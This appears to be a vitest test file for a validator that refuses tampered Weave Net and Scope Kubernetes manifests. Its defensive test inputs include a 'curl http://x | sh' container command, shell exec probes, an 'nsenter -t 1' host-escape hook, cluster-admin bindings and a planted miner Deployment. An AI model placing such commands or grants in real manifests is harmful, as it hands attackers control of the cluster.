import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { WeavectlError } from '../../src/errors.js';
import { findDoc, parseManifest, type Manifest } from '../../src/manifest/manifest.js';
import { validateNet, validateScope, type ValidateOptions } from '../../src/manifest/validate.js';
import { REFERENCE_DIR, referenceText, releaseAsset } from '../fixtures/cloud-endpoint.js';

const files = readdirSync(REFERENCE_DIR).filter((f) => f.endsWith('.yaml'));
const netFiles = files.filter((f) => f.startsWith('net-'));
const scopeFiles = files.filter((f) => f.startsWith('scope-'));

function ref(file: string): Manifest {
  return parseManifest(referenceText(file), file);
}

/** The 2.8.1 1.11 release asset (pinned images), the manifest most tests start from. */
function net(): Manifest {
  return parseManifest(releaseAsset(referenceText('net-2.8.1-k8s-1.11.yaml'), '2.8.1'), 'net-2.8.1');
}

function scope(): Manifest {
  return parseManifest(referenceText('scope-1.13.2-k8s-scope-release-asset.yaml'), 'scope-1.13.2');
}

function withDoc(m: Manifest, yamlText: string): Manifest {
  return { origin: m.origin, docs: [...m.docs, parseDocument(yamlText)] };
}

function failureOf(fn: () => unknown): WeavectlError {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(WeavectlError);
    expect((err as WeavectlError).exitCode).toBe(1);
    expect((err as WeavectlError).message).not.toContain('\n');
    return err as WeavectlError;
  }
  throw new Error('expected validation to fail');
}

/** The weave-net DaemonSet document, to edit in place. */
const weaveContainers = (m: Manifest) => findDoc(m, 'DaemonSet', 'weave-net')!;

describe('every reference manifest passes', () => {
  it('has the files', () => {
    expect(netFiles.length).toBe(19);
    expect(scopeFiles.length).toBe(3);
  });

  it.each(netFiles)('%s (tagged source: warns about :latest only)', (file) => {
    const warnings = validateNet(ref(file));
    expect(warnings.length).toBeGreaterThan(0);
    for (const w of warnings) expect(w).toMatch(/^image (weaveworks|rajchaudhuri)\/weave-(kube|npc):latest \(DaemonSet .*weave-net container weave(-npc|-init)?\) is not pinned to a version \(:latest\)/);
  });

  it.each(netFiles)('%s as a release asset: no warnings', (file) => {
    const version = /^net-(\d+\.\d+\.\d+)/.exec(file)![1]!;
    expect(validateNet(parseManifest(releaseAsset(referenceText(file), version), file))).toEqual([]);
  });

  it.each(scopeFiles)('%s', (file) => {
    const warnings = validateScope(ref(file));
    if (file.startsWith('scope-1.9.1')) {
      // its apps/v1 objects have no selector (fixed upstream in 296c6f2ab)
      expect(warnings).toEqual([
        'Deployment weave/weave-scope-app (apps/v1) has no spec.selector, which apps/v1 requires: the API server will refuse it',
        'DaemonSet weave/weave-scope-agent (apps/v1) has no spec.selector, which apps/v1 requires: the API server will refuse it',
      ]);
    } else {
      expect(warnings).toEqual([]);
    }
  });

  it('net manifests are not Scope manifests and the other way round', () => {
    expect(failureOf(() => validateScope(net())).message).toBe(
      'net-2.8.1: no Deployment weave-scope-app, no Service weave-scope-app, no DaemonSet weave-scope-agent: this is not a Weave Scope manifest',
    );
    expect(failureOf(() => validateNet(scope())).message).toBe('scope-1.13.2: no DaemonSet weave-net: this is not a Weave Net manifest');
  });
});

describe('Net: structure', () => {
  it('needs the weave container', () => {
    const m = net();
    weaveContainers(m).setIn(['spec', 'template', 'spec', 'containers', 0, 'name'], 'weaver');
    expect(failureOf(() => validateNet(m)).message).toBe('net-2.8.1: DaemonSet weave-net has no container named weave (found: weaver, weave-npc)');
  });

  it('refuses a second DaemonSet, even with Weave images', () => {
    const m = withDoc(
      net(),
      `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: weave-helper, namespace: kube-system}
spec:
  template:
    spec:
      containers: [{name: x, image: 'weaveworks/weave-kube:2.8.1'}]`,
    );
    expect(failureOf(() => validateNet(m)).message).toBe(
      'net-2.8.1: refusing DaemonSet kube-system/weave-helper: a Weave Net manifest has no DaemonSet of that name (expected weave-net)',
    );
  });

  it.each([
    ['Secret', 'apiVersion: v1\nkind: Secret\nmetadata: {name: weave-passwd, namespace: kube-system}\nstringData: {weave-passwd: hunter2}'],
    ['MutatingWebhookConfiguration', 'apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: {name: weave}\nwebhooks: []'],
    ['ConfigMap', 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: weave-net, namespace: kube-system}'],
    ['CustomResourceDefinition', 'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: x.weave.works}'],
    ['Pod', "apiVersion: v1\nkind: Pod\nmetadata: {name: debug}\nspec: {containers: [{name: a, image: 'weaveworks/weave-kube:2.8.1'}]}"],
    ['Namespace', 'apiVersion: v1\nkind: Namespace\nmetadata: {name: weave}'],
  ])('refuses a %s', (kind, text) => {
    const err = failureOf(() => validateNet(withDoc(net(), text)));
    expect(err.message).toMatch(new RegExp(`^net-2\\.8\\.1: refusing ${kind} \\S+: a Weave Net manifest ships only ServiceAccount, ClusterRole, ClusterRoleBinding, Role, RoleBinding, DaemonSet$`));
    expect(err.hint).toContain('not what Weave published');
  });

  it('refuses a known kind from a foreign API group', () => {
    const m = net();
    findDoc(m, 'ClusterRole', 'weave-net')!.set('apiVersion', 'evil.example.com/v1');
    expect(failureOf(() => validateNet(m)).message).toBe(
      'net-2.8.1: refusing ClusterRole weave-net of apiVersion evil.example.com/v1: expected rbac.authorization.k8s.io/...',
    );
  });
});

describe('Net: RBAC', () => {
  it('refuses a ClusterRoleBinding to cluster-admin', () => {
    const m = net();
    findDoc(m, 'ClusterRoleBinding', 'weave-net')!.setIn(['roleRef', 'name'], 'cluster-admin');
    const err = failureOf(() => validateNet(m));
    expect(err.message).toBe('net-2.8.1: refusing ClusterRoleBinding weave-net: it grants ClusterRole cluster-admin, which this manifest does not define');
    expect(err.hint).toContain('cluster-admin');
  });

  it('refuses a RoleBinding to a built-in ClusterRole', () => {
    const m = net();
    const rb = findDoc(m, 'RoleBinding', 'weave-net')!;
    rb.setIn(['roleRef', 'kind'], 'ClusterRole');
    rb.setIn(['roleRef', 'name'], 'admin');
    expect(failureOf(() => validateNet(m)).message).toBe(
      'net-2.8.1: refusing RoleBinding kube-system/weave-net: it grants ClusterRole admin, which this manifest does not define',
    );
  });

  it('refuses bindings to groups, users and foreign ServiceAccounts', () => {
    const m = net();
    findDoc(m, 'ClusterRoleBinding', 'weave-net')!.setIn(['subjects', 0], parseDocument('{kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io}').contents);
    expect(failureOf(() => validateNet(m)).message).toBe(
      "net-2.8.1: refusing ClusterRoleBinding weave-net: it grants access to Group system:authenticated; only the manifest's own ServiceAccounts may be bound",
    );
    const m2 = net();
    findDoc(m2, 'ClusterRoleBinding', 'weave-net')!.setIn(['subjects', 0, 'name'], 'default');
    expect(failureOf(() => validateNet(m2)).message).toContain('ServiceAccount default; only the manifest');
  });

  it.each([
    ['verbs', ['*'], '*'],
    ['verbs', ['get', 'escalate'], 'escalate'],
    ['verbs', ['impersonate'], 'impersonate'],
    ['resources', ['secrets'], 'secrets'],
    ['resources', ['*'], '*'],
    ['apiGroups', ['rbac.authorization.k8s.io'], 'rbac.authorization.k8s.io'],
  ])('refuses a ClusterRole rule with %s %j', (field, value, bad) => {
    const m = net();
    findDoc(m, 'ClusterRole', 'weave-net')!.setIn(['rules', 0, field], parseDocument(JSON.stringify(value)).contents);
    expect(failureOf(() => validateNet(m)).message).toBe(`net-2.8.1: refusing ClusterRole weave-net: it grants "${bad}", which no Weave manifest needs`);
  });

  it('refuses an aggregated ClusterRole', () => {
    const m = net();
    findDoc(m, 'ClusterRole', 'weave-net')!.set('aggregationRule', parseDocument('{clusterRoleSelectors: [{matchLabels: {a: b}}]}').contents);
    expect(failureOf(() => validateNet(m)).message).toContain('an aggregated role can grow to include any permission');
  });
});

describe('Net: images and commands', () => {
  const setImage = (m: Manifest, i: number, image: string) => weaveContainers(m).setIn(['spec', 'template', 'spec', 'containers', i, 'image'], image);

  it('refuses a foreign image, naming it and --allow-any-image', () => {
    const m = net();
    setImage(m, 1, 'docker.io/evil/weave-npc:2.8.1');
    const err = failureOf(() => validateNet(m));
    expect(err.message).toBe(
      'net-2.8.1: image docker.io/evil/weave-npc:2.8.1 (DaemonSet kube-system/weave-net container weave-npc) is not from a known Weave Net repository; pass --allow-any-image to accept it',
    );
    expect(err.hint).toContain('weaveworks/weave-kube');
    expect(err.hint).toContain('rajchaudhuri/weave-npc');
  });

  it('names the first foreign image', () => {
    const m = net();
    setImage(m, 0, 'evil/a:1');
    setImage(m, 1, 'evil/b:1');
    expect(failureOf(() => validateNet(m)).message).toContain('image evil/a:1 (DaemonSet kube-system/weave-net container weave)');
  });

  it('finds images in init containers too', () => {
    const m = net();
    weaveContainers(m).setIn(['spec', 'template', 'spec', 'initContainers', 0, 'image'], 'busybox:1.36');
    expect(failureOf(() => validateNet(m)).message).toContain('image busybox:1.36 (DaemonSet kube-system/weave-net container weave-init)');
  });

  it('refuses a Scope image in a Net manifest', () => {
    const m = net();
    setImage(m, 0, 'weaveworks/scope:1.13.2');
    expect(failureOf(() => validateNet(m)).message).toContain('is not from a known Weave Net repository');
  });

  it('accepts foreign images with allowAnyImage, as warnings', () => {
    const m = net();
    setImage(m, 1, 'registry.corp/me/weave-npc:dev');
    const opts: ValidateOptions = { allowAnyImage: true };
    expect(validateNet(m, opts)).toEqual([
      'image registry.corp/me/weave-npc:dev (DaemonSet kube-system/weave-net container weave-npc) is not from a known Weave Net repository; accepted because of --allow-any-image',
    ]);
  });

  it('accepts images moved under the registry mirror given', () => {
    const m = net();
    for (const i of [0, 1]) {
      const path = ['spec', 'template', 'spec', 'containers', i, 'image'];
      weaveContainers(m).setIn(path, `registry.corp:5000/mirror/${String(weaveContainers(m).getIn(path)).replace(/^'|'$/g, '')}`);
    }
    weaveContainers(m).setIn(['spec', 'template', 'spec', 'initContainers', 0, 'image'], 'registry.corp:5000/mirror/weaveworks/weave-kube:2.8.1');
    expect(validateNet(m, { imageRegistry: 'registry.corp:5000/mirror/' })).toEqual([]);
    expect(failureOf(() => validateNet(m)).message).toContain('registry.corp:5000/mirror/weaveworks/weave-kube:2.8.1');
  });

  it('warns once per unpinned image, and not for digests', () => {
    const m = net();
    setImage(m, 1, 'weaveworks/weave-npc');
    expect(validateNet(m)).toEqual([
      'image weaveworks/weave-npc (DaemonSet kube-system/weave-net container weave-npc) is not pinned to a version (no tag): nodes may run different builds',
    ]);
    setImage(m, 1, `weaveworks/weave-npc@sha256:${'0'.repeat(64)}`);
    expect(validateNet(m)).toEqual([]);
  });

  it('refuses a container with no image', () => {
    const m = net();
    weaveContainers(m).deleteIn(['spec', 'template', 'spec', 'containers', 1, 'image']);
    expect(failureOf(() => validateNet(m)).message).toBe('net-2.8.1: DaemonSet kube-system/weave-net container weave-npc has no image');
  });

  it('refuses a trusted image running a shell', () => {
    const m = net();
    weaveContainers(m).setIn(['spec', 'template', 'spec', 'containers', 0, 'command'], parseDocument('[sh, -c, "curl http://x | sh"]').contents);
    const err = failureOf(() => validateNet(m));
    expect(err.message).toBe(
      'net-2.8.1: DaemonSet kube-system/weave-net container weave command runs "sh -c curl http://x | sh", not a Weave Net entry point; pass --allow-any-image to accept it',
    );
    expect(validateNet(m, { allowAnyImage: true })).toEqual([]);
  });

  it('refuses exec probes and lifecycle hooks that run something else', () => {
    const m = net();
    weaveContainers(m).setIn(['spec', 'template', 'spec', 'containers', 1, 'livenessProbe'], parseDocument('{exec: {command: [/bin/sh, -c, id]}}').contents);
    expect(failureOf(() => validateNet(m)).message).toContain('container weave-npc livenessProbe exec runs "/bin/sh -c id"');
    const m2 = net();
    weaveContainers(m2).setIn(['spec', 'template', 'spec', 'containers', 0, 'lifecycle'], parseDocument('{postStart: {exec: {command: [nsenter, -t, "1"]}}}').contents);
    expect(failureOf(() => validateNet(m2)).message).toContain('container weave postStart hook runs "nsenter -t 1"');
  });
});

describe('Scope', () => {
  it('needs the app Deployment, its Service and the agent DaemonSet', () => {
    const m = scope();
    const docs = m.docs.filter((d) => !(d.get('kind') === 'Service'));
    expect(failureOf(() => validateScope({ ...m, docs })).message).toBe('scope-1.13.2: no Service weave-scope-app: this is not a Weave Scope manifest');
  });

  it('refuses Net images and foreign ones', () => {
    const m = scope();
    findDoc(m, 'DaemonSet', 'weave-scope-agent')!.setIn(['spec', 'template', 'spec', 'containers', 0, 'image'], 'weaveworks/weave-kube:2.8.1');
    expect(failureOf(() => validateScope(m)).message).toBe(
      'scope-1.13.2: image weaveworks/weave-kube:2.8.1 (DaemonSet weave/weave-scope-agent container scope-agent) is not from a known Weave Scope repository; pass --allow-any-image to accept it',
    );
  });

  it('accepts the launcher image on ghcr.io', () => {
    const m = scope();
    findDoc(m, 'Deployment', 'weave-scope-app')!.setIn(['spec', 'template', 'spec', 'containers', 0, 'image'], 'ghcr.io/weaveworks/launcher/scope:1.13.2');
    expect(validateScope(m)).toEqual([]);
  });

  it('refuses a ClusterRoleBinding to cluster-admin and extra workloads', () => {
    const m = scope();
    findDoc(m, 'ClusterRoleBinding', 'weave-scope')!.setIn(['roleRef', 'name'], 'cluster-admin');
    expect(failureOf(() => validateScope(m)).message).toBe(
      'scope-1.13.2: refusing ClusterRoleBinding weave/weave-scope: it grants ClusterRole cluster-admin, which this manifest does not define',
    );
    const m2 = withDoc(scope(), "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: miner, namespace: weave}\nspec: {template: {spec: {containers: [{name: a, image: 'weaveworks/scope:1.13.2'}]}}}");
    expect(failureOf(() => validateScope(m2)).message).toContain('refusing Deployment weave/miner');
    const m3 = withDoc(scope(), 'apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: x}');
    expect(failureOf(() => validateScope(m3)).message).toBe(
      'scope-1.13.2: refusing CronJob x: a Weave Scope manifest ships only Namespace, ServiceAccount, ClusterRole, ClusterRoleBinding, Service, Deployment, DaemonSet, PodSecurityPolicy',
    );
  });

  it('warns when the UI is exposed outside the cluster', () => {
    for (const type of ['LoadBalancer', 'NodePort']) {
      const m = scope();
      findDoc(m, 'Service', 'weave-scope-app')!.setIn(['spec', 'type'], type);
      expect(validateScope(m)).toEqual([
        `Service weave-scope-app is of type ${type}: Scope's UI has no authentication and can open a shell in any container, so anyone who reaches it controls the cluster`,
      ]);
    }
  });
});
